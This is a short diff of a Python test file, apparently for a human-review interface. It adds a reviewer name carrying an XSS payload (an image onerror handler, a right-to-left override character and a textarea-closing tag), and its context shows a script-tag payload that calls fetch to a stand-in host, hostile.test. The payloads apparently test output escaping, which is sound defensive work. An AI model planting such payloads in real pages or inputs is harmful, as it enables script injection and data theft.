@@ -10,6 +10,8 @@ from typing import Any
 QUERY = "What is the notice period?"
 ANSWER = "Three months to the end of a quarter."
 MEGABYTE = 1_000_000
+REVIEWER = "<img src=x onerror='window.hitlRan=1'>\u202eana</textarea>"
+"""A name to type at the door."""
 
 MARKUP = {
     "script": "<script>window.hitlRan=1;fetch('http://hostile.test/script')</script>",
